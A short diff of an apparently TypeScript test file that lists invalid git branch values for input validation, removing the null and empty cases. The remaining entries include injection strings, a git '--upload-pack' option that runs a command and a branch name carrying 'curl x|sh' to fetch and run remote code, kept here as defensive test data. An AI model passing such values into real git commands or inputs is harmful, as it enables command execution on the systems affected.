@@ -102,8 +102,6 @@ for (const [description, repo] of BAD_REPOS) {
 
 const BAD_BRANCHES: [string, unknown][] = [
   ["a number", 7],
-  ["null", null],
-  ["empty", ""],
   ["blank", "   "],
   ["an option of git", "--upload-pack=touch /tmp/p;git-upload-pack"],
   ["a shell command", "main; curl x|sh"],
